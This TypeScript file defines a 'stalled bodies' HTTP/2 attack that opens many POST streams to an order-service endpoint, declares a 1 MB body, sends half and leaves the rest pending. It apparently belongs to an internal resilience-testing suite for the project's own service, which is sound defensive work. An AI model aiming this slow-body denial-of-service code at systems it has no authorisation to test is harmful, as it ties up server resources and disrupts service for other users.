// Requests that announce a megabyte and send half of it.
//
//   HEADERS content-length: 1000000
//   DATA    500 kB ............................ and no more
//
// As many streams as the server allows, on two connections; 100 MB altogether.
import { pause } from '../../../services/platform/base/backoff.ts';
import { type Attack, OutcomeCounter, openSession, readCode, repeatUntil } from '../attack.ts';

const CONNECTIONS = 2;
const STREAMS = 100;
const HALF = Buffer.alloc(500_000, 0x20);
/** Over which the bodies are begun, and before one that was rejected is sent again: it is no flood of data. */
const PAUSE_MS = 5_000;

export const stalledBodies: Attack = {
  name: 'stalled bodies',
  run: async (target, signal) => {
    const counter = new OutcomeCounter();
    const holdOne = async (sessionOf: () => ReturnType<typeof openSession>): Promise<void> => {
      const stream = sessionOf().request({
        ':method': 'POST',
        ':path': '/shop.order.v1.OrderService/CreateOrder',
        'content-type': 'application/json',
        'content-length': String(2 * HALF.length),
      });
      stream.write(HALF);
      counter.add(await readCode(stream));
    };
    const attackers = Array.from({ length: CONNECTIONS }, () => {
      let session = openSession(target.url, signal);
      const sessionOf = () => {
        if (session.destroyed || session.closed) session = openSession(target.url, signal);
        return session;
      };
      return Array.from({ length: STREAMS }, async (_, index) => {
        await pause((index / STREAMS) * PAUSE_MS, signal);
        await repeatUntil(signal, PAUSE_MS, () => holdOne(sessionOf));
      });
    });
    await Promise.all(attackers.flat());
    return counter.outcomes;
  },
};
